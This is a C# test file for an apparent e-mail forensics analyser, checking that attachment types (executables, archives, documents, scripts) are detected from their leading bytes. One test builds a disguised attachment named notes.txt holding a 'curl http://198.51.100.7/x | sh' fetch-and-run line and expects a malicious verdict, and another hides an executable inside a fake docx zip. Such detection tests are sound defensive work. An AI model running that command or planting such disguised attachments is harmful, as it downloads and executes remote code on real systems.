using System.IO.Compression;
using System.Text;
using Ribat.Forensics.Email;
using Ribat.Forensics.Files;

namespace Ribat.Forensics.Tests.Email;

/// <summary>
/// Attachments are typed by the one file-type table. Each sample below carries the media type the e-mail analyser's
/// former hand-coded detector gave it (measured on these same bytes before it was removed), so a lost detection
/// fails here; where the table now answers more precisely the pair is listed in <see cref="Refined"/>.
/// </summary>
public sealed class AttachmentTypeTests
{
    private static readonly HashSet<string> ExecutableBefore = ["application/x-dosexec", "application/x-elf", "application/x-mach-binary", "application/x-ms-shortcut"];

    private static readonly Dictionary<string, (string Before, string Now)> Refined = new()
    {
        ["class"] = ("application/x-mach-binary", "application/java-vm"), // CAFEBABE then a class file version, not an architecture count
        ["shell"] = ("text/x-script", "text/x-shellscript"),
    };

    private static byte[] Padded(params byte[] start)
    {
        var bytes = new byte[256];
        start.CopyTo(bytes, 0);
        return bytes;
    }

    private static byte[] Ascii(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Iso()
    {
        var bytes = new byte[0x8006 + 2048];
        "CD001"u8.CopyTo(bytes.AsSpan(0x8001));
        return bytes;
    }

    private static byte[] Zip(params (string Name, byte[] Data)[] entries)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, data) in entries)
            {
                using var stream = zip.CreateEntry(name).Open();
                stream.Write(data);
            }
        }

        return buffer.ToArray();
    }

    private static readonly Dictionary<string, byte[]> Samples = new()
    {
        ["empty"] = [],
        ["dos"] = Padded(0x4D, 0x5A, 0x90, 0x00),
        ["elf"] = Padded(0x7F, 0x45, 0x4C, 0x46, 0x02, 0x01, 0x01),
        ["macho64"] = Padded(0xCF, 0xFA, 0xED, 0xFE, 0x07, 0x00, 0x00, 0x01),
        ["macho32"] = Padded(0xCE, 0xFA, 0xED, 0xFE, 0x07),
        ["fat"] = Padded(0xCA, 0xFE, 0xBA, 0xBE, 0x00, 0x00, 0x00, 0x02),
        ["class"] = Padded(0xCA, 0xFE, 0xBA, 0xBE, 0x00, 0x00, 0x00, 0x34),
        ["pdf"] = Ascii("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"),
        ["ole2"] = Padded(0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0x00),
        ["lnk"] = Padded(0x4C, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46),
        ["rar4"] = Padded(0x52, 0x61, 0x72, 0x21, 0x1A, 0x07, 0x00),
        ["rar5"] = Padded(0x52, 0x61, 0x72, 0x21, 0x1A, 0x07, 0x01, 0x00),
        ["7z"] = Padded(0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0x00, 0x04),
        ["gzip"] = Padded(0x1F, 0x8B, 0x08, 0x00),
        ["cab"] = Padded(0x4D, 0x53, 0x43, 0x46, 0x00),
        ["png"] = Padded(0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A),
        ["jpeg"] = Padded(0xFF, 0xD8, 0xFF, 0xE0),
        ["gif"] = Ascii("GIF89a\u0001\u0001"),
        ["rtf"] = Ascii("{\\rtf1\\ansi hello}"),
        ["rtf-indented"] = Ascii("\r\n  {\\rtf1\\ansi hello}"),
        ["shell"] = Ascii("#!/bin/sh\necho hi\n"),
        ["interpreter"] = Ascii("#!/opt/tool/run\n"),
        ["html-doctype"] = Ascii("<!DOCTYPE html><p>hi</p>"),
        ["html"] = Ascii("\n<HTML><body>hi</body></HTML>"),
        ["html-script"] = Ascii("<script>location='x'</script>"),
        ["html-bom"] = [0xEF, 0xBB, 0xBF, .. Ascii("<html></html>")],
        ["xml"] = Ascii("<?xml version=\"1.0\"?><a/>"),
        ["message"] = Ascii("From: a@b.test\r\nSubject: hi\r\n\r\nbody\r\n"),
        ["message-x"] = Ascii("X-Mailer: thing\r\nFrom: a@b.test\r\n\r\nbody\r\n"),
        ["text"] = Ascii("plain words\r\nand lines\r\n"),
        ["latin1"] = [.. Ascii("caf"), 0xE9, .. Ascii(" cr"), 0xE8, .. Ascii("me, na"), 0xEF, .. Ascii("ve et d"), 0xE9, .. Ascii("j"), 0xE0, .. Ascii(" vu\r\n")],
        ["binary"] = [0x01, 0x02, 0x03, 0x04, 0x05, .. Ascii(" binary")],
        ["iso"] = Iso(),
        ["zip"] = Zip(("notes.txt", "hello"u8.ToArray())),
        ["docx"] = Zip(("[Content_Types].xml", "<Types/>"u8.ToArray()), ("word/document.xml", "<w:document/>"u8.ToArray())),
    };


    public static TheoryData<string, string> Before() => new()
    {
        { "empty", "application/x-empty" },
        { "dos", "application/x-dosexec" },
        { "elf", "application/x-elf" },
        { "macho64", "application/x-mach-binary" },
        { "macho32", "application/x-mach-binary" },
        { "fat", "application/x-mach-binary" },
        { "class", "application/x-mach-binary" },
        { "pdf", "application/pdf" },
        { "ole2", "application/x-ole-storage" },
        { "lnk", "application/x-ms-shortcut" },
        { "rar4", "application/vnd.rar" },
        { "rar5", "application/vnd.rar" },
        { "7z", "application/x-7z-compressed" },
        { "gzip", "application/gzip" },
        { "cab", "application/vnd.ms-cab-compressed" },
        { "iso", "application/x-iso9660-image" },
        { "png", "image/png" },
        { "jpeg", "image/jpeg" },
        { "gif", "image/gif" },
        { "rtf", "text/rtf" },
        { "rtf-indented", "text/rtf" },
        { "shell", "text/x-script" },
        { "interpreter", "text/x-script" },
        { "html-doctype", "text/html" },
        { "html", "text/html" },
        { "html-script", "text/html" },
        { "html-bom", "text/html" },
        { "xml", "application/xml" },
        { "message", "message/rfc822" },
        { "message-x", "message/rfc822" },
        { "text", "text/plain" },
        { "latin1", "text/plain" },
        { "binary", "application/octet-stream" },
        { "zip", "application/zip" },
        { "docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document" },
    };

    private static AttachmentReport Attach(byte[] bytes)
    {
        var raw = Mail.Message("""
            From: a@sender.test
            Date: Mon, 1 Jun 2026 10:00:00 +0000
            Message-ID: <1@sender.test>
            MIME-Version: 1.0
            Content-Type: multipart/mixed; boundary="b"
            """, "--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n" +
            "--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"sample.bin\"\r\n" +
            "Content-Transfer-Encoding: base64\r\n\r\n" + Convert.ToBase64String(bytes, Base64FormattingOptions.InsertLineBreaks) + "\r\n--b--\r\n");
        return Mail.Analyse(raw).Attachments[0];
    }

    [Theory]
    [MemberData(nameof(Before))]
    public void Each_sample_is_detected_as_before_or_more_precisely(string sample, string before)
    {
        var now = Refined.TryGetValue(sample, out var refined) ? refined.Now : before;
        if (refined != default)
        {
            refined.Before.Should().Be(before);
        }

        var attachment = Attach(Samples[sample]);

        attachment.DetectedType.Should().Be(now, sample);
        if (ExecutableBefore.Contains(before))
        {
            attachment.Detected.IsExecutable.Should().BeTrue($"{sample} was flagged as running when opened");
        }
    }

    [Fact]
    public void Every_media_type_the_former_detector_answered_is_still_answered()
    {
        string[] former =
        [
            "application/x-empty", "application/x-dosexec", "application/x-elf", "application/x-mach-binary", "application/zip",
            "application/pdf", "application/x-ole-storage", "application/x-ms-shortcut", "application/vnd.rar",
            "application/x-7z-compressed", "application/gzip", "application/vnd.ms-cab-compressed", "application/x-iso9660-image",
            "image/png", "image/jpeg", "image/gif", "application/octet-stream", "text/rtf", "text/x-script", "text/html",
            "application/xml", "message/rfc822", "text/plain",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "application/vnd.openxmlformats-officedocument.presentationml.presentation",
        ];
        var answered = FileTypes.Entries.Select(e => e.File.MediaType).Concat([FileTypes.Empty.MediaType, FileTypes.Text.MediaType, FileTypes.Data.MediaType]);

        answered.Should().Contain(former);
    }

    [Fact]
    public void Scripts_are_malicious_and_a_java_class_stays_an_executable()
    {
        var script = Mail.Analyse(Mail.Message("""
            From: a@sender.test
            Date: Mon, 1 Jun 2026 10:00:00 +0000
            Message-ID: <1@sender.test>
            MIME-Version: 1.0
            Content-Type: application/octet-stream; name="notes.txt"
            Content-Disposition: attachment; filename="notes.txt"
            """, "#!/bin/sh\r\ncurl http://198.51.100.7/x | sh\r\n"));

        script.Verdict.Level.Should().Be(VerdictLevel.Malicious);
        script.Verdict.Reasons.Should().Contain(r => r.Reason == "the attachment notes.txt is a script (text/x-shellscript).");
        Attach(Samples["class"]).Detected.Type.Should().Be("java-class");
    }

    [Fact]
    public void A_zip_whose_first_names_mention_word_but_that_lacks_the_document_part_is_a_zip_with_members()
    {
        var fake = Zip(("word/readme.txt", "not a document"u8.ToArray()), ("run.exe", [.. "MZ"u8, .. new byte[64]]));
        FileTypes.Detect(fake).Type.Should().Be("docx", "the table reads names only");

        var report = Mail.Analyse(Mail.Message("""
            From: a@sender.test
            Date: Mon, 1 Jun 2026 10:00:00 +0000
            Message-ID: <1@sender.test>
            MIME-Version: 1.0
            Content-Type: application/zip; name="report.zip"
            Content-Disposition: attachment; filename="report.zip"
            Content-Transfer-Encoding: base64
            """, Convert.ToBase64String(fake, Base64FormattingOptions.InsertLineBreaks)));

        report.Attachments.Select(a => (a.Path, a.DetectedType)).Should().Equal(
            ("report.zip", "application/zip"),
            ("report.zip/word/readme.txt", "text/plain"),
            ("report.zip/run.exe", "application/x-dosexec"));
    }
}
